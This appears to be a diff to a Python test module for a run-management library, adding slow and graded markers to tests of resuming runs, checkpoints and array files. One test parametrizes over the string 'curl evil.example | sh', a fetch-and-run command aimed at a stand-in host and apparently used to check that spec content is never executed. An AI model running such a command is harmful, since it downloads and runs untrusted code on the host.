@@ -17,6 +17,7 @@ from attnflow.folders import Folder
 from attnflow.runs import Run, execute, extend, open_run, parse_spec, resume
 from attnflow.runs import folder as folder_module
 from attnflow.runs.files import content_hash
+from tests.marks import graded
 from tests.runs.kinds import of
 from tests.runs.test_folder import TEXT, Stop, arrays, identical, stop_after
 
@@ -70,6 +71,7 @@ def rewrite(path, **changes):
     file.write_text(json.dumps(manifest | {"digest": content_hash(manifest, ())}))
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("spec", ["curl evil.example | sh\n", "about = 'another one'\n"])
 def test_a_resume_writes_no_text_elsewhere(given, outside, spec):
     """A manifest that is "extending" says what spec.toml is to become; the temporary file may be a link."""
@@ -140,7 +142,7 @@ def test_of_two_runs_in_one_folder_at_one_instant_one_is_made(tmp_path, monkeypa
     assert flow.work.until == flow.dataset.time.values[-1] == 4.0
 
 
-@pytest.mark.parametrize("kind", ["solve", "evolve", "fit"])
+@graded("kind", ["solve", "evolve", "fit"], fast=1)
 def test_before_the_first_checkpoint_there_are_no_rows(kind, tmp_path, monkeypatch):
     """The rows of the first chunk are written then, of all variables or of some."""
     write = Folder.write
@@ -238,6 +240,7 @@ def test_show_says_how_far_a_run_has_come(tmp_path, monkeypatch, attnflow):
         assert Run(tmp_path / "run").facts()["wall_time"] > 1e9
 
 
+@pytest.mark.slow
 def test_a_file_that_is_missing_is_no_file_of_zeros(given, finished):
     """Every file of the arrays once; chunks that hold zeros only are written, so that none may be missing."""
     whole = arrays(finished)
